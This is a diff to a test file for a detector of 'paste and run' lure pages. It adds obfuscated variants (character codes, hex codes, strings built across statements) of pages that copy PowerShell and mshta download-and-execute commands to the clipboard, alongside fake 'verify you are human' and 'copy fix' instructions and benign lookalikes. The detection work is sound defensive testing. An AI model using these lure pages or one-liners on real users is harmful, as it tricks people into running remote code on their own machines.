@@ -8,6 +8,8 @@ const LIMITS = { maxPayloadBytes: 1 << 20 };
 const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
 const ENC = Buffer.from('iex (iwr "https://verify-cdn.top/c.ps1").Content', 'utf16le').toString('base64');
 const page = (body: string): string => `<!DOCTYPE html><html><head><title>Page</title></head><body>${body}</body></html>`;
+const CMD = 'powershell -w hidden -c "irm https://fix-cdn.top/v | iex"';
+const codes = (t: string): string => [...t].map((c) => c.charCodeAt(0)).join(',');
 const STEPS_EN = '<p>To verify you are human: 1. Press <kbd>Windows</kbd> + <kbd>R</kbd> 2. Press <kbd>Ctrl</kbd> + <kbd>V</kbd> 3. Press Enter</p>';
 
 /**
@@ -27,7 +29,18 @@ const rows: [name: string, html: string, copies: boolean, instructs: boolean][] 
   ['the instructions in German, the command not readable', page('<p>Bestätigen Sie, dass Sie ein Mensch sind: Drücken Sie Windows-Taste + R, dann Strg + V und die Eingabetaste.</p><script>navigator.clipboard.writeText(x)</script>'), false, true],
   ['the instructions in French written by script (<kbd> in a literal)', page('<div id="m"></div><script>document.getElementById("m").innerHTML = "Pour vérifier que vous êtes humain : appuyez sur <kbd>touche Windows</kbd> + <kbd>R</kbd>, collez avec Ctrl + V puis Entrée.";</script>'), false, true],
   ['the instructions with character references (&#43;)', page('<p>I am not a robot &mdash; verification steps: press Win&#43;R, press Ctrl&#43;V, press Enter.</p>'), false, true],
+  // Session 19: commands spelled in character codes, or built across statements.
+  ['String.fromCharCode of the command\'s codes', page(`<script>var c = String.fromCharCode(${codes(CMD)}); navigator.clipboard.writeText(c);</script>`), true, false],
+  ['String.fromCharCode of hexadecimal codes', page(`<script>navigator.clipboard.writeText(String.fromCharCode(${[...CMD].map((c) => `0x${c.charCodeAt(0).toString(16)}`).join(', ')}))</script>`), true, false],
+  ['an array of codes mapped through String.fromCharCode', page(`<script>const k = [${codes(CMD)}]; navigator.clipboard.writeText(k.map((c) => String.fromCharCode(c)).join(''));</script>`), true, false],
+  ['pieces added to a variable over several statements (+=, c = c + …)', page(`<script>var c = "pow";\nc += "ershell -w h";\nc += 'idden -c iwr v.top/s';\nc += " -useb | i";\nc = c + "ex";\nnavigator.clipboard.writeText(c);</script>`), true, false],
+  ['variables joined in the clipboard write (a + b + d)', page(`<script>const a = "powersh";\nconst b = 'ell -c iwr v.top/s -useb | i';\nconst d = 'ex';\nnavigator.clipboard.writeText(a + b + d);</script>`), true, false],
+  ['a variable between two literals (\'…\' + host + \'…\'), copied from a hidden textarea', page(`<textarea id="t"></textarea><script>const t = "ta";\nconst c = "msh" + t + " https://v.top/a.hta";\nvar t = document.getElementById('t'); t.value = c; t.select(); document.execCommand('copy');</script>`), true, false],
+  ['the "fix the error" steps: Copy fix, Win+X, PowerShell (the command not readable)', page('<h2>Error 0x80070643</h2><button onclick="f()">Copy fix</button><p>How to fix: the fix has been copied. Press Win + X, open Windows PowerShell (Admin), paste with Ctrl + V and press Enter.</p><script>navigator.clipboard.writeText(x)</script>'), false, true],
   // Must not.
+  ['an address spelled in character codes and copied', page(`<script>var e = String.fromCharCode(${codes('info@northwind-supplies.com')}); navigator.clipboard.writeText(e);</script>`), false, false],
+  ['a command sample built over statements: npm install', page(`<script>let c = "npm ";\nc += 'install left-pad';\nnavigator.clipboard.writeText(c);</script>`), false, false],
+  ['numbers on a page that calls fromCharCode: a chart\'s data', page('<script>var d = [12, 40, 33, 58, 61, 70, 72, 90, 101, 99]; var s = String.fromCharCode(65); navigator.clipboard.writeText(d.join(","));</script>'), false, false],
   ['a documentation page: copy buttons on code samples (no download run)', page('<pre id="a">pip install requests</pre><pre id="b">git clone https://github.com/psf/requests.git</pre><pre>powershell -ExecutionPolicy Bypass -File .\\build.ps1</pre><script>function c(id){navigator.clipboard.writeText(document.getElementById(id).innerText)}</script>'), false, false],
   ['quoted attributes are not one string: a "powershell " title beside a link, and a copy button', page(`<a title="powershell " href="https://learn.example.org/ps">PowerShell tips</a><button onclick="navigator.clipboard.writeText('Get-Date')">Copy</button>`), false, false],
   ['a literal sample copied: npm install', page(`<script>navigator.clipboard.writeText('npm install --save left-pad')</script>`), false, false],
@@ -61,6 +74,8 @@ test('paste-and-run page: linear in the page (quotes, tags, references, launcher
   const units = [
     `"a" + 'b' + `, `'`, `"`, '`', '<textarea>', '<input value="', '<a ', '&#43;', '+ <b>', 'powershell ', 'cmd /c ', 'curl x ',
     `navigator.clipboard.writeText('powershell x') `, 'execCommand("copy") mshta ', 'QUJD', 'win + r ctrl + v ',
+    // Session 19: assignments, code lists, clipboard writes of variables, the other launchers.
+    `c += 'a'; `, `c = c + "a"; `, 'a = b + ', 'x = ', '1,2,3,', '0x41, ', 'fromCharCode(', 'writeText(a + b + ', 'writeText(a) ', 'powershell paste fix copied ',
   ];
   for (const unit of units) {
     const make = (n: number): string => `<script>navigator.clipboard.writeText(x)</script>${unit.repeat(Math.ceil(n / unit.length))}`;
